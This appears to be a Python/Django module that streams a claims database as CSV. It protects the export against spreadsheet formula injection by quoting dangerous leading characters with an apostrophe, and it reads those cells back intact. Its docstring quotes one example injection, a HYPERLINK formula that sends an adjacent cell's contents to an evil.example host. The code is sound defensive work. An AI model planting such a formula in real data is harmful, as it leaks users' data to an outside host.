"""Claims as CSV: streamed in constant memory, safe to open in a spreadsheet.

Text cells a spreadsheet will not run as formulas, written and read back.

A spreadsheet opening a CSV file runs a cell that starts with =, +, -, @, tab or
carriage return as a formula: `=HYPERLINK("http://evil.example/?x="&A1)` in a claim's
text would send the cell next to it away. OWASP's rule for CSV injection is to write
such a cell with a leading apostrophe, which spreadsheets take as "this is text".

So that every text reads back as it was, a text that already starts with apostrophes
followed by one of those characters gets one apostrophe more too: reading a cell
strips one apostrophe exactly when the cell starts with apostrophes and then one of
those characters. Other texts, `'quoted'` for one, are written as they are.
"""

import csv
import io
import re
from collections.abc import Iterator, Sequence
from itertools import islice
from typing import Any

import psycopg
from django.db import connection, transaction
from django.db.models import (
    Case,
    F,
    Func,
    Q,
    QuerySet,
    TextField,
    Value,
    When,
)
from django.db.models.functions import Concat, Left, Ord
from django.db.models.lookups import In
from psycopg import sql

from ..models import Claim
from ..workflow import STAFF_ONLY_FIELDS

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_CODES = [ord(start) for start in FORMULA_STARTS]
APOSTROPHE = ord("'")
QUOTED_FORMULA = re.compile("'+[=+@\t\r-]")


def formula_safe(field: str) -> Case:
    """Return the column `field` with an apostrophe before a formula's start.

    One CASE per row and cell on the first character's code (Ord: ASCII() on
    PostgreSQL, UNICODE() on SQLite), which reads no further into the text; only a
    text that starts with an apostrophe is looked at past its leading apostrophes.
    """
    first = Ord(field)
    after_apostrophes = Left(
        Func(F(field), Value("'"), function="LTRIM", output_field=TextField()), 1
    )
    return Case(
        When(
            Q(In(first, [*FORMULA_CODES, APOSTROPHE]))
            & (Q(In(first, FORMULA_CODES)) | Q(In(after_apostrophes, FORMULA_STARTS))),
            then=Concat(Value("'"), F(field), output_field=TextField()),
        ),
        default=F(field),
        output_field=TextField(),
    )


def formula_unquoted(cell: str) -> str:
    """Return the text a cell written by formula_safe() holds."""
    return cell[1:] if QUOTED_FORMULA.match(cell) else cell


# Rows fetched per round trip and written per chunk of a CSV export.
CSV_CHUNK_ROWS = 5000
CSV_COLUMNS = [
    "id",
    "text",
    "quote",
    "document_id",
    "document__title",
    "document__publisher__name",
    "speaker_id",
    "speaker__name",
    "speaker_role",
    "claimed_on",
    "claimed_precision",
    "metric__slug",
    "value",
    "value_upper",
    "unit",
    "comparator",
    "period_start",
    "period_end",
    "period_label",
    "status",
    "rationale",
    "editor_note",
    "created_at",
    "updated_at",
]
# What the public's export has: the same without the staff-only columns (the
# editors' working notes).
PUBLIC_CSV_COLUMNS = [name for name in CSV_COLUMNS if name not in STAFF_ONLY_FIELDS]
# Free-text columns, written spreadsheet-safe (formula_safe). The others are
# numbers, dates, ids or values of a fixed choice list that no formula starts like.
CSV_TEXT_COLUMNS = frozenset(
    {
        "text",
        "quote",
        "document__title",
        "document__publisher__name",
        "speaker__name",
        "speaker_role",
        "metric__slug",
        "unit",
        "period_label",
        "rationale",
        "editor_note",
    }
)


def csv_rows(
    queryset: QuerySet[Claim], columns: Sequence[str] = CSV_COLUMNS
) -> QuerySet[Claim, tuple[Any, ...]]:
    """Return the CSV export's rows, text cells already spreadsheet-safe.

    Both writers read these rows, so COPY and Python's csv module write the same cells.
    """
    return queryset.values_list(
        *(
            formula_safe(column) if column in CSV_TEXT_COLUMNS else column
            for column in columns
        )
    )


def stream_claims_csv(
    queryset: QuerySet[Claim], *, staff: bool
) -> Iterator[bytes | str]:
    """Yield the claims as CSV in chunks, in constant memory.

    Every column of CSV_COLUMNS for `staff`; PUBLIC_CSV_COLUMNS for anyone else.
    """
    columns = CSV_COLUMNS if staff else PUBLIC_CSV_COLUMNS
    rows = csv_rows(queryset, columns)
    if connection.vendor == "postgresql":
        yield from copied_csv(rows, columns)
    else:
        yield from written_csv(rows, columns)


def copied_csv(
    rows: QuerySet[Claim, tuple[Any, ...]], columns: Sequence[str] = CSV_COLUMNS
) -> Iterator[bytes]:
    # PostgreSQL writes the CSV itself (COPY ... TO STDOUT), several times faster
    # than Python's csv module over rows the ORM has converted. COPY takes no bound
    # parameters, so the query's are written into it by psycopg's own quoting.
    select, params = rows.query.sql_with_params()
    yield (",".join(columns) + "\n").encode()
    with transaction.atomic(), connection.cursor() as cursor:
        # The spreadsheet-safe cells make the planner expect enough work per row to
        # split the scan between parallel workers; merging their rows back into id
        # order for one client reading a stream made the export slower, not faster
        # (100,000 claims: 1.5-2.1 s, against 1.3-1.6 s in one process).
        cursor.execute("SET LOCAL max_parallel_workers_per_gather = 0")
        database = cursor.connection
        # The ORM's own statement, its parameters quoted by psycopg, inside COPY.
        query = psycopg.ClientCursor(database).mogrify(select, params)
        copy_statement = sql.SQL("COPY ({}) TO STDOUT (FORMAT csv)").format(
            sql.SQL(query)  # built by the ORM
        )
        with database.cursor() as raw, raw.copy(copy_statement) as copy:
            for block in copy:
                yield bytes(block)


def written_csv(
    rows: QuerySet[Claim, tuple[Any, ...]], columns: Sequence[str] = CSV_COLUMNS
) -> Iterator[str]:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(columns)
    stream = rows.iterator(chunk_size=CSV_CHUNK_ROWS)
    while chunk := list(islice(stream, CSV_CHUNK_ROWS)):
        writer.writerows(chunk)
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue()  # the header of an empty export
